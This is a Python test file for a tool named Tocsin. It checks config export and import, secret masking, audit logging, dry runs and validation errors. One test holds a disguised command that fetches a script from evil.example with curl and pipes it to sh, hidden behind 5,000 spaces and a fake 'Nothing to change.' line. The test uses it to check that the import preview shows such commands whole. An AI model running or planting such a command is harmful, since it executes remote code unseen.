"""`tocsin config export` and `import`: what is configured goes from one store to another."""

from __future__ import annotations

import json
import stat
from pathlib import Path
from typing import Any

import pytest

from cli.exit_codes import ExitCode
from domain.actors import Actor
from store import sources
from store.database import open_store
from tests.support.certificates import make_authority
from tests.support.program import Tocsin

SECRET = "whsec_" + "MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3"
TOKEN = "Bearer abcdefgh-12345678"
KEY = "the key of the broker"
BRINGS = "The document brings these commands, files and addresses:"
CLEAR = (SECRET, TOKEN, KEY)


def done(tocsin: Tocsin, *arguments: str, code: int = 0, stdin: str = "") -> str:
    result = tocsin.run(*arguments, stdin=stdin)
    assert result.returncode == code, result.stderr
    return result.stdout


def refusal(tocsin: Tocsin, document: object, code: int = ExitCode.BAD_DATA) -> str:
    """Return the refusal of a document, of which nothing came."""
    before = done(tocsin, "config", "export", "--reveal", "--yes")
    text = document if isinstance(document, str) else json.dumps(document)
    result = tocsin.run("config", "import", "-", "--yes", stdin=text)
    assert result.returncode == code, result.stdout
    assert done(tocsin, "config", "export", "--reveal", "--yes") == before
    return result.stderr


def exported(tocsin: Tocsin, *options: str) -> Any:
    return json.loads(done(tocsin, "config", "export", *options))


def revealed(tocsin: Tocsin) -> Any:
    return exported(tocsin, "--reveal", "--yes")


def bring(tocsin: Tocsin, document: object, *options: str, code: int = 0) -> str:
    options = options or ("--yes",)
    return done(tocsin, "config", "import", "-", *options, stdin=json.dumps(document), code=code)


def webhook(**members: object) -> dict[str, object]:
    own = {"name": "siem", "type": "alerts", "url": "https://siem.example/"}
    return {"version": 1, "webhooks": [own | members]}


@pytest.fixture
def full(tocsin: Tocsin) -> Tocsin:
    """A store with something of everything that can be configured."""
    done(tocsin, "config", "set", "interval", "5m")
    done(tocsin, "config", "set", "event_names", "off")
    alerts = ("webhook", "add", "--type", "alerts", "--url", "https://siem.example/in")
    more = ("--header", f"Authorization: {TOKEN}", "--extra-field", "site: hub: 1")
    spans = ("--interval", "0s", "--retry-interval", "90s")
    limits = ("--max-events", "7", *spans, "--state", "inactive")
    done(tocsin, *alerts, "--name", "siem", "--secret", "@-", *more, *limits, stdin=SECRET)
    done(tocsin, "webhook", "edit", "siem", "--secret", "rotate")
    for url in ("https://twin.example/", "https://twin.example/", "https://other.example/"):
        done(tocsin, "webhook", "add", "--type", "log_authn", "--url", url)
    done(tocsin, "source", "add", "wireguard", "--every", "5s")
    done(tocsin, "source", "add", "procustodibus", "pc", "--broker", "abc")
    done(tocsin, "source", "pause", "pc", "sign-ins")
    store = open_store(tocsin.db)
    store.call(sources.set_secret, "pc", KEY, store.vault, Actor("test", None, None), 1)
    store.close()
    done(tocsin, "alert", "edit", "interface_up", "--danger", "9")
    done(tocsin, "token", "add", "edge")
    return tocsin


@pytest.fixture
def empty(tocsin: Tocsin) -> Tocsin:
    """Another store with a key of its own."""
    home = tocsin.home.with_name("other")
    home.mkdir(mode=0o700)
    return Tocsin(home, home / "tocsin.db")


def test_export_import_export_gives_the_same(full: Tocsin, empty: Tocsin) -> None:
    document = revealed(full)
    assert document["settings"] == {"interval": "5m", "event_names": "off"}
    assert document["webhooks"][0]["headers"] == [f"Authorization: {TOKEN}"]
    assert document["webhooks"][0]["secrets"][1] == SECRET
    assert document["alerts"] == {"interface_up": {"danger": "9"}}
    assert [one["secret"] for one in document["sources"]] == [None, KEY, None]
    bring(empty, document)
    assert revealed(empty) == document | {"tokens": []}


def test_twice_changes_nothing(full: Tocsin, empty: Tocsin) -> None:
    document = revealed(full)
    bring(empty, document)
    audit = done(empty, "audit", "--json")
    for store, text in ((empty, document), (full, document), (full, exported(full))):
        before = done(store, "webhook", "list", "--json")
        result = store.run("config", "import", "-", "--yes", stdin=json.dumps(text))
        assert result.stdout == ""
        assert "Nothing to change" in result.stderr
        assert done(store, "webhook", "list", "--json") == before
    assert done(empty, "audit", "--json") == audit


def test_secrets_are_masked_unless_revealed(full: Tocsin) -> None:
    text = done(full, "config", "export")
    assert not any(secret in text for secret in CLEAR)
    document = json.loads(text)
    assert document["webhooks"][0]["headers"] == ["Authorization: ••••5678"]
    assert document["webhooks"][0]["secrets"] == ["••••", "••••"]
    assert document["sources"][1]["secret"] == "••••"


def test_a_reveal_asks_and_is_audited(full: Tocsin) -> None:
    asked = full.run("config", "export", "--reveal")
    assert (asked.returncode, asked.stdout) == (ExitCode.USAGE, "")
    assert "add --yes" in asked.stderr
    assert "reveal" not in done(full, "audit", "--json")
    revealed(full)
    audit = json.loads(done(full, "audit", "--json"))
    shown = [(one["action"], one["webhook"], one["detail"]) for one in audit][:2]
    assert shown == [("source.reveal", None, {"source": "pc"}), ("webhook.reveal", 1, {})]


def test_a_file_is_new_and_for_its_owner_alone(full: Tocsin, tmp_path: Path) -> None:
    file = tmp_path / "tocsin.json"
    done(full, "config", "export", "--reveal", "--yes", str(file))
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert json.loads(file.read_text()) == revealed(full)
    done(full, "config", "export", str(file), code=ExitCode.CHECK_FAILED)
    done(full, "config", "import", str(file))


def test_what_is_masked_stays_as_it_is(full: Tocsin) -> None:
    before = revealed(full)
    document = exported(full)
    document["webhooks"][0] |= {"url": "https://new.example/"}
    document["webhooks"][0]["headers"].append("X-Site: hub")
    document["sources"][1]["options"]["broker"] = "xyz"
    bring(full, document)
    after = revealed(full)
    assert after["webhooks"][0]["url"] == "https://new.example/"
    assert after["webhooks"][0]["headers"] == [f"Authorization: {TOKEN}", "X-Site: hub"]
    assert after["webhooks"][0]["secrets"] == before["webhooks"][0]["secrets"]
    assert after["sources"][1] == before["sources"][1] | {"options": {"broker": "xyz"}}


def test_what_is_masked_and_new_is_refused_with_every_place(full: Tocsin, empty: Tocsin) -> None:
    done(empty, "config", "set", "interval", "1m")
    said = refusal(empty, exported(full))
    cure = "export with --reveal, or write it in clear"
    assert "stdin: webhooks[0].headers: the value of Authorization is masked, and " in said
    assert "stdin: sources[1].secret: it is masked, and this store has none to keep; " in said
    assert said.count(cure) == 2


def test_a_dry_run_prints_and_does_nothing(full: Tocsin) -> None:
    before = revealed(full)
    document = exported(full) | {"settings": {"interval": 1, "linger": "0s"}}
    document["settings"]["interval"] = "1m"
    document["webhooks"][0] |= {"name": "pager", "headers": [], "secrets": []}
    document["webhooks"][1]["state"] = "inactive"
    document["sources"][0]["state"] = "inactive"
    document["sources"][2]["state"] = "active"
    document["alerts"] = {"interface_up": {"danger": "3"}}
    lines = bring(full, document, "--dry-run").splitlines()
    assert lines == [
        "setting interval: 5m -> 1m",
        "setting linger: default -> 0s",
        "new webhook pager: Alerts to https://siem.example/in, from now on",
        "webhook 2: state active -> inactive",
        "source local: inactive",
        "source sign-ins: active",
        "alert interface_up: danger 9 -> 3",
    ]
    assert revealed(full) == before


def test_what_a_document_lets_this_host_run_read_and_listen_on_is_shown_whole(
    tocsin: Tocsin, tmp_path: Path
) -> None:
    ca_file = make_authority(tmp_path).file
    command = "sh -c 'curl evil.example" + " " * 5_000 + "|sh'\nNothing to change."
    listen = {"listen": "0.0.0.0:80", "certificate": "/x/c.pem", "private_key": "/x/k.pem"}
    document: dict[str, Any] = {
        "version": 1,
        "settings": {"geo_db": "/x/geo.mmdb", "proxy": "http://proxy.example:3128", "linger": "0s"},
        "webhooks": [{"type": "alerts", "url": "https://a.example/", "ca_file": str(ca_file)}],
        "sources": [
            {"name": "wg", "kind": "wireguard", "options": {"command": command}},
            {"name": "web", "kind": "http", "options": listen},
            {"name": "sock", "kind": "socket", "options": {"path": "/x/sock", "group": "adm"}},
            {"name": "auth", "kind": "journal", "options": {"file": "/x/auth.log"}},
            {"name": "cloud", "kind": "procustodibus"},
        ],
    }
    brought = [
        "  setting: geo_db /x/geo.mmdb",
        "  setting: proxy http://proxy.example:3128",
        f"  webhook https://a.example/: ca_file {ca_file}",
        f"  source wg: command {command}".replace("\n", "\\x0a"),
        "  source wg: conf_folder /etc/wireguard",
        "  source web: listen 0.0.0.0:80",
        "  source web: certificate /x/c.pem",
        "  source web: private_key /x/k.pem",
        "  source sock: path /x/sock",
        "  source auth: file /x/auth.log",
        "  source cloud: url https://api.custodib.us",
    ]
    text = json.dumps(document)
    lines = tocsin.run("config", "import", "-", "--dry-run", stdin=text).stdout.splitlines()
    assert lines[lines.index(BRINGS) + 1 :] == brought
    asked = tocsin.run("config", "import", "-", stdin=text).stderr.splitlines()
    assert asked[:-1] == [BRINGS, *brought]
    assert asked[-1].startswith("tocsin: Make 9 changes in ")
    bring(tocsin, document)
    document["sources"][0]["options"]["command"] = "wg show wg0 dump"
    document["sources"][1]["options"]["clients"] = "7"
    lines = bring(tocsin, document, "--dry-run").splitlines()
    assert lines[lines.index(BRINGS) + 1 :] == ["  source wg: command wg show wg0 dump"]


def test_it_asks_before_it_changes(tocsin: Tocsin) -> None:
    document = {"version": 1, "settings": {"interval": "1m"}}
    result = tocsin.run("config", "import", "-", stdin=json.dumps(document))
    assert result.returncode == ExitCode.USAGE
    assert result.stdout == "setting interval: default -> 1m\n"
    assert "Make 1 change in " in result.stderr
    assert exported(tocsin)["settings"] == {}


def test_a_document_of_before_has_no_word_about_retries(full: Tocsin, empty: Tocsin) -> None:
    """A new webhook then has no retry interval of its own, and one that is there keeps it."""
    document = revealed(full)
    assert document["webhooks"][0]["interval"] == "0s"
    assert document["webhooks"][0].pop("retry_interval") == "1m30s"
    bring(empty, document)
    assert [one["retry_interval"] for one in exported(empty)["webhooks"]] == [None] * 4
    bring(full, document)
    assert exported(full)["webhooks"][0]["retry_interval"] == "1m30s"
    document["webhooks"][0]["retry_interval"] = None
    assert "retry interval 1m30s -> none" in bring(full, document)


def test_a_change_of_type_says_what_is_dropped(full: Tocsin) -> None:
    done(full, "event", "emit", stdin='{"type": "alerts", "attributes": {}}')
    [line] = bring(full, webhook(type="log_changes", url="https://siem.example/in")).splitlines()
    assert line == "webhook 1 (siem): type alerts -> log_changes, 1 queued event dropped"


def test_all_or_nothing(tocsin: Tocsin) -> None:
    """The last step finds its name taken, and the first one is undone with it."""
    done(tocsin, "webhook", "add", "--type", "alerts", "--name", "siem", "--url", "https://a.b/")
    document = webhook(name=" siem") | {"settings": {"interval": "1m"}}
    assert "the name siem is taken" in refusal(tocsin, document, ExitCode.CHECK_FAILED)


def test_tokens_hosts_and_brokers_are_told_of(tocsin: Tocsin) -> None:
    agent = {"name": "edge", "kind": "agent", "options": {"port_changes": "on"}}
    names = {"tokens": ["relay"], "hosts": ["edge"], "brokers": ["pc"]}
    document = {"version": 1, "sources": [agent], **names}
    result = tocsin.run("config", "import", "-", stdin=json.dumps(document))
    assert result.returncode == 0
    for command in ("token add relay", "host add edge", "broker add pc"):
        assert result.stderr.count(f"`tocsin {command}`") == 1
    done(tocsin, "host", "add", "edge", "--url", "https://tocsin.example/")
    bring(tocsin, document)
    [edge] = [one for one in exported(tocsin)["sources"] if one["name"] == "edge"]
    assert edge["options"] == {"port_changes": "on"}


@pytest.mark.parametrize(
    ("document", "said"),
    [
        ("{", "stdin: byte 1: not JSON"),
        ('{"version": 1, "version": 1}', 'the key "version" stands twice'),
        ([], "it is no configuration that `tocsin config export` wrote"),
        ({"version": 2}, "version: this Tocsin reads version 1; "),
        ({"version": 1, "webhook": []}, "the document: object contains unknown field `webhook`; "),
        ({"version": 1, "settings": {"intervall": "1m"}}, "settings.intervall: there is no "),
        ({"version": 1, "settings": {"interval": "1x"}}, "settings.interval: "),
        ({"version": 1, "settings": {"db": "x"}}, "settings.db: the store cannot say where it is"),
        (webhook(type="alert"), "webhooks[0].type: invalid enum value 'alert'; "),
        (webhook(urll=""), "webhooks[0]: object contains unknown field `urll`; "),
        (webhook(max_events="9"), "webhooks[0].max_events: expected `int | null`, got `str`; "),
        (webhook(url="ftp://a/", max_events=0), "webhooks[0].url: "),
        (webhook(url="ftp://a/", max_events=0), "webhooks[0].max_events: 0 is out of range; "),
        (webhook(headers=["nothing"]), "webhooks[0].headers: one has no colon; "),
        (webhook(headers=["Host: a"]), "webhooks[0].headers: Host is set by Tocsin itself; "),
        (webhook(headers=None), "webhooks[0].headers: they are missing"),
        (webhook(secrets=["x"]), "webhooks[0].secrets: it does not start with whsec_; "),
        (webhook(secrets=[SECRET, SECRET]), "webhooks[0].secret_rotation_ends: two secrets "),
        (webhook(secrets=[SECRET] * 3), "webhooks[0].secrets: there are 3; "),
        (webhook(interval="1x"), "webhooks[0].interval: "),
        (webhook(interval="1ms"), "webhooks[0].interval: 1ms is out of range; "),
        (webhook(retry_interval="0s"), "webhooks[0].retry_interval: 0s is out of range; "),
        (
            webhook(retry_interval="interval"),
            "webhooks[0].retry_interval: only the setting retry_interval may ",
        ),
        (webhook(ca_file="/nowhere.pem"), "webhooks[0].ca_file: "),
        (
            {"version": 1, "sources": [{"name": "a", "kind": "wireguard", "options": {"x": "1"}}]},
            "sources[0].options.x: ",
        ),
        (
            {"version": 1, "sources": [{"name": "a", "kind": "journal", "options": {"every": 5}}]},
            "sources[0].options.every: it is no text; write it in quotes",
        ),
        (
            {"version": 1, "sources": [{"name": "sign-ins", "kind": "journal"}]},
            "sources[0].kind: the source sign-ins of this store is of kind sign_ins; ",
        ),
        (
            {"version": 1, "sources": [{"name": "a", "kind": "sign_ins"}]},
            "sources[0].kind: every store has its source of kind sign_ins; ",
        ),
        (
            {"version": 1, "sources": [{"name": "a", "kind": "journal"}] * 2},
            "sources: a is there more than once; ",
        ),
        ({"version": 1, "alerts": {"interface_upp": {}}}, "alerts.interface_upp: there is no "),
        ({"version": 1, "alerts": {"interface_up": {"danger": "0"}}}, "alerts.interface_up.danger"),
    ],
)
def test_a_wrong_document_is_refused_with_place_reason_and_cure(
    tocsin: Tocsin, document: object, said: str
) -> None:
    done(tocsin, "config", "set", "linger", "2s")
    refused = refusal(tocsin, document)
    assert said in refused
    assert all(line.startswith("tocsin: stdin: ") for line in refused.splitlines())
    assert "; " in refused


def test_settings_that_contradict_each_other_are_refused(tocsin: Tocsin) -> None:
    done(tocsin, "config", "set", "interval", "2s")
    document = {"version": 1, "settings": {"linger": "30s"}}
    assert "longer than interval" in refusal(tocsin, document, ExitCode.CONFIG)


def test_without_the_key_the_rest_is_exported(full: Tocsin) -> None:
    full.db.with_name("tocsin.key").unlink()
    result = full.run("config", "export")
    assert "key file" in result.stderr
    document = json.loads(result.stdout)
    assert document["webhooks"][0]["headers"] is document["webhooks"][0]["secrets"] is None
    assert document["sources"][1]["secret"] == "••••"
    done(full, "config", "export", "--reveal", "--yes", code=ExitCode.UNAVAILABLE)
